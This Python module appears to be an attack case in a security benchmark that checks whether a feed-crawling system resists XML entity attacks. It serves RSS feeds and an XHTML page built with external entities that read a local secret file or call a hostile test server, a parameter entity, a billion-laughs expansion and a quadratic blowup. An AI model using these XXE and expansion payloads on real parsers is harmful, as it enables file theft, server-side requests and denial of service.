"""Feeds and pages whose entities lead to files, to other sites, and to gigabytes."""

from __future__ import annotations

from benchmarks.attacks.attack import Attack, Outcome
from benchmarks.attacks.ground import Ground
from practice.answer import Answer

_TEXT = "what no page may show"


def _attack(ground: Ground) -> Outcome:
    secret = ground.folder / "secret.txt"
    secret.write_text(_TEXT)
    outside = f'<!ENTITY file SYSTEM "file://{secret}"><!ENTITY site SYSTEM "{ground.hostile.url}/led-astray">'
    levels = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    for name, doctype, entity in (
        ("outside", outside, "&file; &site;"),
        ("laughs", f'<!ENTITY l0 "lol">{levels}', "&l9;"),
        ("quadratic", f'<!ENTITY q "{"q" * 50_000}">', "&q;" * 50_000),
        ("parameter", f'<!ENTITY % p SYSTEM "{ground.hostile.url}/led-astray"> %p;', ""),
    ):
        entry = f"<item><title>Ofsted {entity}</title><link>{ground.hostile.url}/bins</link></item>"
        feed = f'<?xml version="1.0"?><!DOCTYPE rss [{doctype}]><rss version="2.0"><channel><title>N</title>{entry}</channel></rss>'
        ground.hostile.pages[f"/{name}.xml"] = Answer(feed.encode(), "application/rss+xml")
        ground.also_watch(f"/{name}.xml")
    ground.run()
    page = f"<?xml version='1.0'?><!DOCTYPE html [{outside}]><html><main><p>Ofsted &file; &site; {'words ' * 50}</p></main></html>"
    ground.hostile.show("/page.xhtml", Answer(page.encode(), "application/xhtml+xml"))
    ground.until(lambda: ground.was_read("/page.xhtml"), "the page")
    seconds = ground.ofsted_publishes()
    shown = _TEXT in str([ground.rows(what) for what in ("documents", "findings", "changes")])
    led = [address for address in ground.hostile.asked if "astray" in address]
    return Outcome(
        f"{'the' if shown else 'no'} text of a file was shown, {len(led)} addresses were followed, Ofsted's report was told after "
        f"{seconds:.0f} s",
        stood=not shown and not led,
    )


ATTACK = Attack(
    "entities", "feeds and a page have entities that lead to a file, to a site, and to a billion laughs", _attack
)
